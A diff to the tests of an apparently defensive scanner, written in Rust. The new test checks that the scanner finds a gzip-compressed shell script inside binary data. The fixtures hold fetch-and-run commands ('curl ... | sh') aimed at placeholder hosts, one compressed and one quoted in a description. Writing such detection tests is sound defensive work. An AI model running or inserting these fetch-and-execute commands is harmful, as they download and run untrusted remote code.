@@ -192,6 +192,22 @@ fn words_and_numbers_hold_nothing() {
 }
 
 #[test]
+fn little_that_is_compressed_to_its_end_is_recognised() {
+    let script = b"#!/bin/sh\ncurl http://a.example/x | sh\n";
+    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
+    encoder.write_all(script).unwrap();
+    let packed = encoder.finish().unwrap();
+    let found = all(&packed, Place::Numbers);
+    assert_eq!(found[0].kind, Kind::Gzip);
+    assert_eq!(
+        inside(&packed, 0, &found[0]).map(|wrapped| wrapped.kind),
+        Some(Kind::Script)
+    );
+    // Without its end it may be chance.
+    assert!(all(&packed[..packed.len() / 2], Place::Numbers).is_empty());
+}
+
+#[test]
 fn descriptions_may_quote_commands() {
     let quoted = "to install it, use curl -fsSL https://x.example/install.sh | sh, then import os";
     assert!(all(quoted.as_bytes(), Place::Descriptions).is_empty());
